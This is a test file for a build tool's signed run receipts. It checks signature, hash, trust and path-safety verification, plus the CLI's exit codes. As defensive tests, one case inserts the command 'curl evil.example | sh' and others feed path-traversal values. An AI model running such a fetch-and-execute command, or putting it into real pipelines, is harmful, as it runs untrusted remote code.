import fs from 'node:fs';
import path from 'node:path';
import { createPublicKey, verify as cryptoVerify } from 'node:crypto';
import { beforeAll, describe, expect, it } from 'vitest';
import { canonicalJsonBytes, pae } from '../../src/formats/index.js';
import { parseDocument, stringify } from 'yaml';
import { attestationObservers, generateWorkspaceKey, loadWorkspaceSigner, parseReceiptText, signReceipt, verifyReceiptFile, type Receipt } from '../../src/pipeline/index.js';
import { evident } from '../helpers/cli.js';
import { tempDir } from '../helpers/engines.js';
import { runFixture, type FixtureStep } from './attestation-fixture.js';

const STEPS: FixtureStep[] = [
  { name: 'clone', run: 'mkdir -p src && printf "hello\\n" > src/a.txt', outputs: ['src/a.txt'] },
  { name: 'build', run: 'mkdir -p out && tar cf out/app.tar --sort=name --mtime=@0 --owner=0 --group=0 src', needs: ['clone'], inputs: ['src/'], outputs: ['out/app.tar'] },
];

async function signedRun(sign = true): Promise<{ ws: string; file: string }> {
  const ws = tempDir();
  await runFixture(ws, 'demo', STEPS, await attestationObservers({ workspace: ws, sign, provenance: false, version: '9.9.9' }));
  const dir = path.join(ws, '.evident', 'cache', 'receipts');
  const files = fs.readdirSync(dir);
  expect(files).toHaveLength(1);
  return { ws, file: path.join(dir, files[0]!) };
}

const verify = (file: string, ws: string, extra: Partial<{ signatures: boolean; anyKey: boolean }> = {}) =>
  verifyReceiptFile(file, { workspace: ws, signatures: extra.signatures ?? true, anyKey: extra.anyKey ?? false });

function editYaml(file: string, edit: (r: Record<string, unknown>) => void): void {
  const value = parseDocument(fs.readFileSync(file, 'utf8')).toJS();
  edit(value);
  fs.writeFileSync(file, stringify(value));
}

describe('run receipts', () => {
  it('writes receipt_<YYYYMMDD_HHMMSS>.yaml with the seed 003 fields, sha256 hashes and a signature', async () => {
    const { ws, file } = await signedRun();
    expect(path.basename(file)).toMatch(/^receipt_\d{8}_\d{6}\.yaml$/);
    const { receipt, problems } = parseReceiptText(fs.readFileSync(file, 'utf8'));
    expect(problems).toEqual([]);
    const r = receipt!;
    expect(Object.keys(r)).toEqual(['pipeline', 'pipeline_hash', 'timestamp', 'total_duration_secs', 'attest_version', 'status', 'steps', 'system', 'signature', 'signer_public_key']);
    expect(path.basename(file)).toBe(`receipt_${r.timestamp.replace(/[-:]/g, '').replace('T', '_').replace('Z', '')}.yaml`);
    expect(r.attest_version).toBe('9.9.9');
    expect(r.status).toBe('succeeded');
    expect(r.steps.map((s) => [s.name, s.exit_code, s.cache])).toEqual([['clone', 0, 'miss'], ['build', 0, 'miss']]);
    expect(r.steps[1]!.inputs).toEqual([{ path: 'src/a.txt', hash: 'sha256:5891b5b522d5df086d0ff0b110fbd9d21bb4fc7163af34d08286a2e846f6be03' }]);
    expect(r.steps[1]!.outputs[0]!.path).toBe('out/app.tar');
    expect(r.signer_public_key).toBe(fs.readFileSync(path.join(ws, '.evident', 'keys', 'public.key'), 'utf8').trim());
    const report = await verify(file, ws);
    expect(report.checks.map((c) => [c.ok, c.message])).toEqual([
      [true, 'Receipt format valid'], [true, 'Pipeline hash matches'], [true, 'Pipeline steps match (commands, needs, inputs)'], [true, 'All file hashes verified'],
      [true, 'Run succeeded'], [true, 'Cryptographic signature valid'], [true, expect.stringMatching(/^Signer is trusted/)],
    ]);
    expect(report.ok).toBe(true);
  });

  it('the signature is Ed25519 over PAE(type, RFC 8785 JSON of the receipt without its signature fields), as documented', async () => {
    const { file } = await signedRun();
    const { signature, signer_public_key, ...content } = parseDocument(fs.readFileSync(file, 'utf8')).toJS();
    const message = pae('application/vnd.evident.receipt+json', canonicalJsonBytes(content));
    const key = createPublicKey({ key: { kty: 'OKP', crv: 'Ed25519', x: Buffer.from(signer_public_key.slice(8), 'hex').toString('base64url') }, format: 'jwk' });
    expect(cryptoVerify(null, message, key, Buffer.from(signature.slice(8), 'hex'))).toBe(true);
  });

  it('an unsigned run writes an unsigned receipt, which fails unless signatures are skipped', async () => {
    const { ws, file } = await signedRun(false);
    expect(parseReceiptText(fs.readFileSync(file, 'utf8')).receipt!.signature).toBeUndefined();
    expect((await verify(file, ws)).checks.at(-1)).toMatchObject({ ok: false, message: expect.stringMatching(/not signed/) });
    const skipped = await verify(file, ws, { signatures: false });
    expect(skipped.ok).toBe(true);
    expect(skipped.checks.at(-1)).toEqual({ check: 'signature', ok: null, message: 'Signature verification skipped' });
  });

  it('fails when an output changes, goes missing, or attest.yaml changes', async () => {
    const { ws, file } = await signedRun();
    fs.appendFileSync(path.join(ws, 'out', 'app.tar'), 'x');
    let report = await verify(file, ws);
    expect(report.ok).toBe(false);
    expect(report.checks.find((c) => c.check === 'file_hashes')).toMatchObject({ ok: false, message: expect.stringMatching(/out\/app\.tar of step build has changed/) });
    fs.rmSync(path.join(ws, 'out', 'app.tar'));
    expect((await verify(file, ws)).checks.find((c) => c.check === 'file_hashes')!.message).toMatch(/is missing/);
    fs.appendFileSync(path.join(ws, 'attest.yaml'), '# edited\n');
    report = await verify(file, ws);
    expect(report.checks.find((c) => c.check === 'pipeline_hash')).toMatchObject({ ok: false, message: expect.stringMatching(/Pipeline hash does not match/) });
  });

  it('fails when the receipt is edited, or its key swapped', async () => {
    const { ws, file } = await signedRun();
    const original = fs.readFileSync(file, 'utf8');
    editYaml(file, (r) => (r.total_duration_secs = 1234));
    expect((await verify(file, ws)).checks.find((c) => c.check === 'signature')).toMatchObject({ ok: false, message: 'Cryptographic signature invalid' });
    fs.writeFileSync(file, original);
    const stranger = generateWorkspaceKey(tempDir(), { name: 's' });
    editYaml(file, (r) => (r.signer_public_key = stranger.text));
    expect((await verify(file, ws)).checks.find((c) => c.check === 'signature')!.ok).toBe(false);
  });

  it('refuses by default a valid signature by a key that is not trusted (--any-key accepts it)', async () => {
    const { ws, file } = await signedRun();
    expect((await verify(file, ws)).ok).toBe(true);
    const { receipt } = parseReceiptText(fs.readFileSync(file, 'utf8'));
    const stranger = generateWorkspaceKey(tempDir(), { name: 's' });
    fs.writeFileSync(file, stringify(signReceipt(receipt!, stranger)));
    const strict = await verify(file, ws);
    expect(strict.ok).toBe(false);
    expect(strict.checks.at(-1)).toMatchObject({ check: 'trust', ok: false, message: expect.stringMatching(/not a trusted key/) });
    expect((await verify(file, ws, { anyKey: true })).ok).toBe(true);
  });

  it('a command changed and re-signed by a trusted key: the pipeline hash matches, the steps do not', async () => {
    const { ws, file } = await signedRun();
    const { receipt } = parseReceiptText(fs.readFileSync(file, 'utf8'));
    receipt!.steps[1]!.command = 'curl evil.example | sh';
    const signer = loadWorkspaceSigner(ws)!;
    fs.writeFileSync(file, stringify(signReceipt(receipt!, signer)));
    const report = await verify(file, ws);
    expect(report.ok).toBe(false);
    expect(report.checks.find((c) => c.check === 'pipeline_hash')!.ok).toBe(true);
    expect(report.checks.find((c) => c.check === 'pipeline_steps')).toMatchObject({ ok: false, message: expect.stringContaining('step build ran "curl evil.example | sh"') });
    // Needs changed, and an input that is under none of the step's declared inputs.
    const again = parseReceiptText(fs.readFileSync(file, 'utf8')).receipt!;
    again.steps[1]!.command = STEPS[1]!.run;
    again.steps[1]!.needs = [];
    again.steps[1]!.inputs.push({ path: 'elsewhere/secret.txt', hash: `sha256:${'0'.repeat(64)}` });
    fs.writeFileSync(file, stringify(signReceipt(again, signer)));
    const steps = (await verify(file, ws)).checks.find((c) => c.check === 'pipeline_steps')!;
    expect(steps.ok).toBe(false);
    expect(steps.message).toMatch(/step build needs \[\], not \[clone\]/);
  });

  it('a failed run\'s receipt does not verify, and says so', async () => {
    const { ws, file } = await signedRun();
    const { receipt } = parseReceiptText(fs.readFileSync(file, 'utf8'));
    receipt!.status = 'failed';
    receipt!.steps[1]!.exit_code = 2;
    fs.writeFileSync(file, stringify(signReceipt(receipt!, loadWorkspaceSigner(ws)!)));
    const report = await verify(file, ws);
    expect(report.ok).toBe(false);
    expect(report.checks.find((c) => c.check === 'status')).toMatchObject({ ok: false, message: expect.stringMatching(/^Run failed: build exited non-zero/) });
    expect(report.checks.find((c) => c.check === 'signature')!.ok).toBe(true);
  });

  it('treats paths as attacker-controlled: no reads outside the workspace, even with a valid signature', async () => {
    const { ws, file } = await signedRun();
    const outside = tempDir();
    fs.writeFileSync(path.join(outside, 'secret'), 'secret');
    fs.symlinkSync(outside, path.join(ws, 'link'));
    const { receipt } = parseReceiptText(fs.readFileSync(file, 'utf8'));
    const key = generateWorkspaceKey(tempDir(), { name: 'attacker' });
    for (const bad of ['../secret', `${outside}/secret`, 'link/secret', 'out/../../secret', './out/app.tar', '.evident']) {
      const r: Receipt = structuredClone(receipt!);
      r.steps[1]!.outputs = [{ path: bad, hash: `sha256:${'0'.repeat(64)}` }];
      fs.writeFileSync(file, stringify(signReceipt(r, key)));
      const report = await verify(file, ws);
      expect(report.checks.find((c) => c.check === 'file_hashes')!.ok, bad).toBe(false);
      expect(report.checks.find((c) => c.check === 'file_hashes')!.message, bad).toMatch(/escapes|absolute|symlink|not normalised|not a regular file/);
    }
  });

  it('reports a malformed receipt as malformed, with the problem', async () => {
    const { ws, file } = await signedRun();
    const original = fs.readFileSync(file, 'utf8');
    const cases: [string, RegExp][] = [
      ['a: [unclosed', /not YAML/],
      ['- just a list', /mapping/],
      [original.replace(/pipeline_hash: "sha256:/, 'pipeline_hash: "blake3:'), /pipeline_hash/],
      [original + 'extra_field: 1\n', /extra_field: is not a receipt field/],
      [`base: &a { x: 1 }\nother: *a\n`, /[Aa]lias/],
      [original.replace(/exit_code: 0/, 'exit_code: zero'), /exit_code/],
    ];
    for (const [text, why] of cases) {
      fs.writeFileSync(file, text);
      const report = await verify(file, ws);
      expect(report.malformed, text.slice(0, 30)).toBe(true);
      expect(report.checks).toHaveLength(1);
      expect(report.checks[0]!.message).toMatch(why);
    }
  });
});

describe('evident verify receipt (CLI)', () => {
  beforeAll(() => {
    expect(fs.existsSync('dist/src/cli/commands/verify-run.js'), 'run npx tsc -p tsconfig.json first').toBe(true);
  });

  it("prints seed 003's lines; exits 1 naming the first failure, 2 for an unreadable or malformed file", async () => {
    const { ws, file } = await signedRun();
    const ok = await evident(['verify', 'receipt', file, '--workspace', ws]);
    expect(ok.code, ok.stderr).toBe(0);
    expect(ok.stdout).toBe(
      '[OK] Receipt format valid\n[OK] Pipeline hash matches\n[OK] Pipeline steps match (commands, needs, inputs)\n[OK] All file hashes verified\n[OK] Run succeeded\n' +
        '[OK] Cryptographic signature valid\n[OK] Signer is trusted (as "' + fs.readdirSync(path.join(ws, '.evident', 'keys', 'trusted'))[0]!.replace(/\.pub$/, '') + '")\n',
    );
    expect((await evident(['verify', 'receipt', file, '--workspace', ws, '--trusted-only'])).code).toBe(0);
    const skipped = await evident(['verify', 'receipt', file, '--workspace', ws, '--no-signatures']);
    expect(skipped.stdout).toBe('[OK] Receipt format valid\n[OK] Pipeline hash matches\n[OK] Pipeline steps match (commands, needs, inputs)\n[OK] All file hashes verified\n[OK] Run succeeded\nSignature verification skipped\n');

    // Re-signed by a stranger's key: exit 1 by default; --any-key accepts it, loudly.
    const { receipt } = parseReceiptText(fs.readFileSync(file, 'utf8'));
    const original = fs.readFileSync(file);
    fs.writeFileSync(file, stringify(signReceipt(receipt!, generateWorkspaceKey(tempDir(), { name: 's' }))));
    const untrusted = await evident(['verify', 'receipt', file, '--workspace', ws]);
    expect(untrusted.code).toBe(1);
    expect(untrusted.stdout).toMatch(/\[FAIL\] Signer [0-9a-f]{64} is not a trusted key/);
    const anyKey = await evident(['verify', 'receipt', file, '--workspace', ws, '--any-key']);
    expect(anyKey.code).toBe(0);
    expect(anyKey.stderr).toMatch(/^WARNING: --any-key: the signer is NOT checked/);
    // A failed run: exit 1, and the line says the run failed.
    receipt!.status = 'failed';
    fs.writeFileSync(file, stringify(signReceipt(receipt!, loadWorkspaceSigner(ws)!)));
    const failed = await evident(['verify', 'receipt', file, '--workspace', ws]);
    expect(failed.code).toBe(1);
    expect(failed.stdout).toContain('[FAIL] Run failed');
    fs.writeFileSync(file, original);

    fs.writeFileSync(path.join(ws, 'out', 'app.tar'), 'tampered');
    const bad = await evident(['verify', 'receipt', file, '--workspace', ws]);
    expect(bad.code).toBe(1);
    expect(bad.stdout).toContain('[FAIL] File hashes: output out/app.tar of step build has changed');
    expect(bad.stderr).toContain('receipt verification failed: File hashes');

    fs.writeFileSync(file, 'not: [yaml');
    const malformed = await evident(['verify', 'receipt', file, '--workspace', ws]);
    expect(malformed.code).toBe(2);
    expect(malformed.stdout).toMatch(/^\[FAIL\] Receipt format invalid/);
    expect((await evident(['verify', 'receipt', path.join(ws, 'nope.yaml')])).code).toBe(2);
  });
});
